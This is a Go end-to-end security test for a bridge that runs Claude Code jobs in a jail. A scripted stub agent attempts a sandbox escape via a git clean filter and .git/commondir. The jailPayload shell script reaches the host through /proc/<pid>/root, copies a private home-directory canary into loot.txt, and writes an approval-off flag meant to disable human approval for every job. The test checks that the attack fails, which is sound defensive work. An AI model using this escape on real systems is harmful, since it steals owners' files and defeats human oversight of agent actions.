package e2e

// An attack of the review of the job boundary on the jail around the
// harness, made with calls the rules allow unattended (approval on, nobody
// answering) and with approval off, judged by bytes on disk and in the
// model's requests.

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	dt "github.com/deepseek-mcp-bridge/deepseek-mcp-bridge/deepseek/deepseektest"
)

// jailPayload is a shell script that, run anywhere in a job's jail but
// outside Claude Code's own sandbox, looks for a process of the host's mount
// namespace in the jail's /proc (the host's), and through its root
// (/proc/<pid>/root) leaves a marker in m, copies the host file canary into
// the workspace as loot.txt, and writes the approval-off flag into the
// approval queue the jail binds read-write (found from CLAUDE_CONFIG_DIR,
// <state>/harness/<job>).
func jailPayload(m markers, canary, ws string) string {
	return fmt.Sprintf(`#!/bin/sh
for d in /proc/[0-9]*; do
  if [ -d "$d/root%[1]s" ]; then
    touch "$d/root%[2]s"
    cat "$d/root%[3]s" > %[4]s/loot.txt
    break
  fi
done
touch "$CLAUDE_CONFIG_DIR/../../approvals/approval-off"
`, m.dir, m.path("escaped"), canary, ws)
}

// A git clean filter at the jail's level (this attack held in the review;
// the test keeps it held). The workspace is the owner's repository, whose
// .git/config, hooks and info the sandbox holds read-only. The job makes a
// git dir gd whose config defines a clean filter for every file and points
// .git/commondir at it (git then reads the config of gd, not .git/config),
// touches a tracked file and starts a subagent: for it Claude Code runs
// `git status` in the workspace itself, in the jail but outside its own
// sandbox, where a filter would run with the host's /proc in view. The
// filter's script would reach the host through /proc/<pid>/root — a marker
// outside every workspace, a canary in the owner's home — and turn approval
// off for every job by writing the flag into the approval queue, which the
// jail binds read-write; with approval on, a chained command the rules send
// to a human would then run unattended. It held because Claude Code removes
// a .git/commondir a command leaves behind before it runs git again.
func TestGitFilterThroughCommondirIsHeldInTheJail(t *testing.T) {
	t.Parallel()
	inApprovalModes(t, func(t *testing.T, mode string) {
		m := newMarkers(t)
		g := startBoundaryBridge(t, mode, nil)
		homeFile := filepath.Join(g.home, "Documents", "private.txt")
		if err := os.MkdirAll(filepath.Dir(homeFile), 0o700); err != nil {
			t.Fatal(err)
		}
		canary := "home-canary-" + randomWitness(t)
		if err := os.WriteFile(homeFile, []byte(canary+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		ws := g.workspace(t, map[string]string{"README.md": "a project\n"})
		ownerGit(t, ws, [][]string{{"init", "-q", "-b", "main"}, {"add", "-A"}, {"commit", "-q", "-m", "owner's work"}})
		at := func(rel string) string { return filepath.Join(ws, rel) }
		cfg := "[core]\n\trepositoryformatversion = 0\n\tbare = false\n" +
			"[filter \"x\"]\n\tclean = \"sh " + at("p.sh") + "; cat\"\n"
		calls := []dt.ToolCall{
			writeCall(at("p.sh"), jailPayload(m, homeFile, ws)),
			writeCall(at("cfg"), cfg),
			writeCall(at("cd"), "../gd\n"),
			writeCall(at(".gitattributes"), "* filter=x\n"),
			bash("git --git-dir=gd init"),
			bash("cp cfg gd/config"),
			bash("cp cd .git/commondir"),
			bash("touch README.md"),
			dt.Call("Agent", map[string]any{"description": "look", "prompt": subagentPrompt, "subagent_type": "general-purpose"}),
			bash("echo one && echo two"),
			dt.Call("Read", map[string]any{"file_path": at("loot.txt")}),
		}
		scriptWithSubagent(g.d, calls)
		c := runJob(t, g.URL(), "Set up the project.", ws)
		results := toolResults(g.d)
		for i, r := range results {
			t.Logf("result %d: %.300q", i, strings.ReplaceAll(r, canary, "<canary>"))
		}
		t.Logf("job %s: %s", c.P.JobID, c.P.Status)
		if got := m.take(t); len(got) > 0 {
			t.Errorf("the job's script wrote outside the jail, on the host: markers %v", got)
		}
		if _, err := os.Lstat(g.dir().ApprovalOffFlag()); err == nil {
			t.Errorf("the job wrote the approval-off flag %s: approval is off for every job until the daemon restarts", g.dir().ApprovalOffFlag())
		}
		if mode == "on" {
			for _, r := range results {
				if strings.Contains(r, "one\ntwo") {
					t.Errorf("with approval on and nobody answering, the chained command ran unattended: %q", r)
				}
			}
		}
		checkModelSawNone(t, g.d, nil, map[string]string{"the home canary": canary})
	})
}

// subagentPrompt is the task of the subagents the attacks start; the
// double answers their requests "hello".
const subagentPrompt = "Say hello (review subagent)."

// scriptWithSubagent scripts the main agent's calls, one per turn, then a
// plain final answer, and answers every request of a subagent (its first
// message is subagentPrompt) with "hello", in whatever order they come.
func scriptWithSubagent(d *dt.Server, calls []dt.ToolCall) {
	var mu sync.Mutex
	next := 0
	turn := func(r dt.Request) dt.Turn {
		for _, m := range r.Messages() {
			if m["role"] != "user" {
				break // a subagent's prompt is in its first user messages
			}
			if b, _ := json.Marshal(m); strings.Contains(string(b), subagentPrompt) {
				return dt.Text("hello")
			}
		}
		mu.Lock()
		defer mu.Unlock()
		if next >= len(calls) {
			return dt.Text("finished")
		}
		next++
		return dt.ToolCalls(calls[next-1])
	}
	turns := make([]dt.Turn, len(calls)+8)
	for i := range turns {
		turns[i] = dt.Func(turn)
	}
	d.ScriptAnthropic(turns...)
}
